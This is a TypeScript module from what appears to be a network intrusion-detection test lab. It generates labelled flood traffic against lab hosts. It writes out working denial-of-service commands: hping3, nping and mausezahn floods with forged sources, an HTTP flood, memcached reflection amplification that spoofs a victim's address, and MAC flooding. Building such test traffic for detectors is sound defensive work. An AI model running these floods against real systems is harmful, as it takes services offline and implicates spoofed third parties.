/** Floods: SYN, ACK, UDP and ICMP, from true and from forged sources. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Attack, inBursts, single } from './attack.ts';

const speeds = { fast: [1000, 5000], medium: [100, 300], slow: [50, 70] } as const;

/** `open`: the victim's port answers; `dark`: it drops everything. */
function hping(name: string, alerts: readonly string[], options: string, victim: 'web' | 'dark' = 'web'): Attack {
  return {
    class: `flood.${name}`,
    alerts,
    technique: 'T1498.001',
    tool: 'hping3',
    needs: ['hping3'],
    speeds,
    plan(site, rate) {
      const target = site.address(victim);
      const isForged = options.includes('--rand-source');
      const count = Math.round(Math.min(12_000, Math.max(500, rate * 4)));
      const command = `hping3 ${options} -i u${Math.round(1e6 / rate)} -c ${count} -n -q ${target}`;
      return single('evil', command, isForged ? [] : [site.address('evil')], [target], Math.ceil(count / rate) + 6);
    },
  };
}

function mausezahn(name: string, alerts: readonly string[], payload: string, bytes: number): Attack {
  return {
    class: `flood.${name}`,
    alerts,
    technique: 'T1498.001',
    tool: 'mausezahn',
    needs: ['mausezahn'],
    speeds,
    plan(site, rate) {
      const target = site.address('web');
      const count = Math.round(Math.min(12_000, Math.max(500, rate * 4)));
      const command = `mausezahn eth0 -q -a ${site.mac('evil')} -b ${site.mac('web')} -A ${site.address('evil')} -B ${target} -c ${count} -d ${Math.round(1e6 / rate)}u -p ${bytes} -t ${payload}`;
      return single('evil', command, [site.address('evil')], [target], Math.ceil(count / rate) + 6);
    },
  };
}

function nping(name: string, alerts: readonly string[], options: string): Attack {
  return {
    class: `flood.${name}`,
    alerts,
    technique: 'T1498.001',
    tool: 'nping',
    needs: ['nping'],
    speeds,
    plan(site, rate) {
      const target = site.address('web');
      const count = Math.round(Math.min(12_000, Math.max(500, rate * 4)));
      const command = `nping ${options} -N -q --rate ${Math.round(rate)} -c ${count} ${target}`;
      return single('evil', command, [site.address('evil')], [target], Math.ceil(count / rate) + 6);
    },
  };
}

export const floods: readonly Attack[] = [
  hping('syn', ['flood.syn'], '-S -p 80'),
  hping('syn.forged', ['flood.syn'], '-S -p 80 --rand-source'),
  hping('syn.silent', ['flood.syn'], '-S -p 443', 'dark'),
  hping('ack', ['flood.ack'], '-A -p 80'),
  hping('ack.forged', ['flood.ack'], '-A -p 80 --rand-source'),
  hping('udp', ['flood.udp'], '--udp -p 9'),
  hping('udp.flow', ['flood.udp'], '--udp -p 80 -s 5000 -k'),
  hping('udp.flow.silent', ['flood.udp'], '--udp -p 53 -s 5000 -k -d 400', 'dark'),
  hping('udp.forged', ['flood.udp'], '--udp -p 53 --rand-source'),
  hping('udp.random', ['flood.udp', 'scan.vertical'], '--udp -p ++1 -d 200'),
  mausezahn('udp.random', ['flood.udp'], 'udp sp=4000,dp=1-65535', 500),
  mausezahn('syn.random', ['flood.syn', 'scan.vertical'], 'tcp flags=syn,sp=1-65535,dp=80', 0),
  hping('icmp', ['flood.icmp'], '--icmp'),
  hping('icmp.forged', ['flood.icmp'], '--icmp --rand-source'),
  hping('icmp.silent', ['flood.icmp'], '--icmp', 'dark'),
  nping('syn', ['flood.syn'], '--tcp --flags syn -p 80'),
  nping('udp', ['flood.udp'], '--udp -p 9'),
  nping('icmp', ['flood.icmp'], '--icmp'),
  {
    class: 'flood.http',
    alerts: ['flood.http'],
    technique: 'T1499.002',
    tool: 'h2load',
    needs: ['h2load'],
    speeds: { fast: [300, 1500], medium: [70, 200] },
    plan(site, rate, speed) {
      const target = site.address('web');
      const seconds = speed === 'fast' ? 10 : 35;
      const command = `h2load --h1 -c 10 --rps ${Math.ceil(rate / 10)} -n ${Math.round(rate * seconds)} http://${target}/index.html`;
      return single('evil', command, [site.address('evil')], [target], seconds + 5);
    },
  },
  {
    class: 'flood.amplification',
    alerts: ['flood.amplification'],
    technique: 'T1498.002',
    tool: 'memcached',
    needs: ['memcached', 'hping3'],
    speeds,
    // The attacker named is the reflector: it sends what the victim gets.
    plan(site, rate) {
      const [reflector, victim] = [site.address('bob'), site.address('alice')];
      const query = join(site.network.directory, 'memcached-query');
      writeFileSync(query, Buffer.from('\0\x01\0\0\0\x01\0\0get page\r\n', 'latin1'));
      const store = `printf 'set page 0 3600 1300\\r\\n%1300s\\r\\nquit\\r\\n' x > /dev/tcp/${reflector}/11211`;
      const count = Math.round(Math.min(6000, Math.max(500, rate * 4)));
      const seconds = Math.ceil(count / rate) + 8;
      const ask = `hping3 -q --udp -p 11211 -a ${victim} -E ${query} -d 18 -i u${Math.round(1e6 / rate)} -c ${count} ${reflector}`;
      return {
        jobs: [
          { host: 'bob', argv: ['timeout', `${seconds}`, 'memcached', '-u', 'nobody', '-l', reflector, '-p', '11211', '-U', '11211'] },
          { host: 'evil', argv: ['bash', '-c', `sleep 1; ${store}; ${ask}`] },
        ],
        attackers: [reflector],
        victims: [victim],
        seconds,
      };
    },
  },
  {
    class: 'flood.mac',
    alerts: ['flood.mac'],
    technique: 'T1557',
    tool: 'macof',
    needs: ['macof'],
    speeds: { fast: [2000, 5000], medium: [300, 1000] },
    plan: (_site, rate) => inBursts((packets) => `macof -i eth0 -n ${packets}`, rate, []),
  },
];
